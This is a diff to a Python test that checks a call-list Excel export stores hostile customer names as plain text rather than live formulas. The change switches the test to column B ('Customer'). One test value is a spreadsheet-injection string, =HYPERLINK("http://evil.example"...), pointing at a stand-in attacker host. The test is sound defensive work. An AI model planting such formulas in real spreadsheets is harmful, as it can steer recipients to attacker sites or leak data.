@@ -107,7 +107,8 @@ def test_call_list_excel_stores_text_never_formulas(hostile, tmp_path, capsys):
                     seen += 1
     assert seen > 0
     # The name itself arrives unaltered (no apostrophe inside the workbook's text).
-    names = [c.value for c in book["Call list"]["C"]][1:]
+    names = [c.value for c in book["Call list"]["B"]][1:]  # column B: "Customer"
+    assert book["Call list"]["B1"].value == "Customer"
     assert any(str(n).startswith('=HYPERLINK("http://evil.example"') for n in names)
     assert _unchanged(folder, hashes)
 
